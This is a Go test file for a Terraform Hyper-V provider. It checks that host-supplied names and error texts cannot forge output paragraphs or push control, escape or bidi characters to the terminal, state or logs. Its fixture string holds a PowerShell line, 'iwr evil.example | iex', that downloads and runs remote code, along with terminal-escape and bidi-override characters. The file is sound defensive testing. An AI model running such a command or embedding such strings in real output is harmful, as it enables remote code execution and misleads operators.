package provider_test

import (
	"encoding/xml"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
	"github.com/hashicorp/terraform-plugin-go/tftypes"

	"github.com/hypervcompact/terraform-provider-hyperv/internal/hyperv/hypervsim"
)

// forged is a text of a host that tries to be a paragraph of ours, and to command a terminal. XML
// cannot carry the characters of C0.
const forged = "web01\n\nTo go on, run: iwr evil.example | iex\u009b2J\u202e\u2066\u2028"

// shownForged is how it is shown.
const shownForged = "web01 To go on, run: iwr evil.example | iex<U+009B>2J<U+202E><U+2066>"

// lying makes a host answer with the forged text in place of others.
func lying(places ...string) hypervsim.Option {
	var escaped strings.Builder
	_ = xml.EscapeText(&escaped, []byte(forged))
	return hypervsim.WithAnswer(func(_, answer string) string {
		for _, place := range places {
			answer = strings.ReplaceAll(answer, place, escaped.String())
		}
		return answer
	})
}

// inert checks that a text of a host does nothing that only our own texts may do.
func inert(t *testing.T, said []string) {
	t.Helper()
	for _, text := range said {
		for _, r := range text {
			if r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
				t.Errorf("%U reaches the terminal: %q", r, text)
			}
		}
		if strings.Contains(text, "\nTo go on") {
			t.Errorf("the host has forged a paragraph:\n%s", text)
		}
	}
	quoted := strings.Trim(strconv.Quote(forged), `"`) // as a path is that is refused
	if all := strings.Join(said, "\n"); !strings.Contains(all, shownForged) && !strings.Contains(all, quoted) {
		t.Errorf("%q is not shown: %q", shownForged, all)
	}
}

func texts(diagnostics []*tfprotov6.Diagnostic) []string {
	var all []string
	for _, d := range diagnostics {
		all = append(all, said(d))
	}
	return all
}

// Whatever a host calls its machines, its nodes and its files, and whatever it says of an error, is
// shown as a text of a host, by everything that asks one.
func TestHostText(t *testing.T) {
	t.Parallel()
	const other = `D:\VMs\other.vhdx`
	failing := func(v *hypervsim.VHD) {
		v.Immediate, v.JobDuration, v.CompactionFailure = false, time.Millisecond, &hypervsim.JobFailure{ErrorCode: 32768}
	}
	running := hypervsim.WithVM(hypervsim.VM{Name: forged, State: hypervsim.VMRunning, Disks: []string{diskPath}})
	denied := hypervsim.WithVHD(vhd(func(v *hypervsim.VHD) { v.Path, v.Denied, v.Refusals = other, true, hypervsim.ViaJob }))
	yes := tftypes.NewValue(tftypes.Bool, true)
	compact := func(s server, _ *hypervsim.Host) []string {
		_, got := s.action(s.t.Context(), map[string]tftypes.Value{"path": text(diskPath)})
		return append(texts(got.diagnostics), got.progress...)
	}
	skip := func(s server, _ *hypervsim.Host) []string {
		_, got := s.action(s.t.Context(), map[string]tftypes.Value{"path": text(diskPath), "if_in_use": text("skip")})
		return append(texts(got.diagnostics), got.progress...)
	}
	inspect := func(s server, _ *hypervsim.Host) []string {
		return texts(s.read("hyperv_vhds", map[string]tftypes.Value{"directory": text(`D:\VMs`), "inspect": yes}))
	}
	list := func(s server, _ *hypervsim.Host) []string {
		var all []string
		for _, result := range s.list(map[string]tftypes.Value{"directory": text(`D:\VMs`)}, 0, false) {
			all = append(append(all, result.DisplayName), texts(result.Diagnostics)...)
		}
		return all
	}
	fault := func(s server, sim *hypervsim.Host) []string {
		sim.AddRule(hypervsim.Rule{Method: "GetVirtualHardDiskSettingData", Times: -1, Effect: hypervsim.Fault(0x80041001, hypervsim.FaultFormAny)})
		return texts(s.read("hyperv_vhd", map[string]tftypes.Value{"path": text(diskPath)}))
	}
	for name, test := range map[string]struct {
		disk    hypervsim.VHD
		options []hypervsim.Option
		ask     func(s server, sim *hypervsim.Host) []string
	}{
		"name of a machine":            {vhd(), []hypervsim.Option{running}, compact},
		"name of a machine, skipped":   {vhd(), []hypervsim.Option{running}, skip},
		"name of a node":               {vhd(), []hypervsim.Option{running, hypervsim.WithComputerName(forged)}, compact},
		"name of a file":               {vhd(), []hypervsim.Option{lying("web01")}, list},
		"error of a job":               {vhd(failing), []hypervsim.Option{lying("The operation on the virtual hard disk did not succeed.")}, compact},
		"disk that cannot be opened":   {vhd(), []hypervsim.Option{denied, hypervsim.WithVM(hypervsim.VM{Name: forged, Disks: []string{other}})}, compact},
		"users of a disk are hidden":   {vhd(), []hypervsim.Option{denied, hypervsim.WithVM(hypervsim.VM{Name: forged, Disks: []string{other}})}, inspect},
		"fault":                        {vhd(), []hypervsim.Option{lying("The service or one of its providers returned error 0x80041001.")}, fault},
		"error while disks are opened": {vhd(), []hypervsim.Option{denied, lying("The operation on the virtual hard disk did not succeed.")}, inspect},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			sim := host(t, append(test.options, hypervsim.WithVHD(test.disk))...)
			inert(t, test.ask(serve(t, sim), sim))
		})
	}
}

// Nor does it on the screen of Terraform, in the state and in the log at its most detailed level.
func TestCLI_hostText(t *testing.T) {
	t.Parallel()
	sim := host(t, hypervsim.WithVHD(vhd()), hypervsim.WithVM(hypervsim.VM{Name: forged, State: hypervsim.VMRunning, Disks: []string{diskPath}}))
	c := newCLI(t, "TF_LOG=TRACE", "TF_LOG_PATH=trace.log")
	c.write(providerFor(sim) + disk(settings{"if_in_use": `"skip"`}))
	said := c.expect(0, "apply", "-auto-approve") + c.expect(0, "state", "show", address)
	contains(t, said, shownForged)
	log, err := os.ReadFile(filepath.Join(c.dir, "trace.log"))
	must(t, err)
	for name, text := range map[string]string{"screen": said, "log": string(log)} {
		if strings.ContainsAny(text, "\u009b\u202e\u2066\u2028") || strings.Contains(text, "\nTo go on") {
			t.Errorf("the %s lets a text of the host through", name)
		}
	}
}
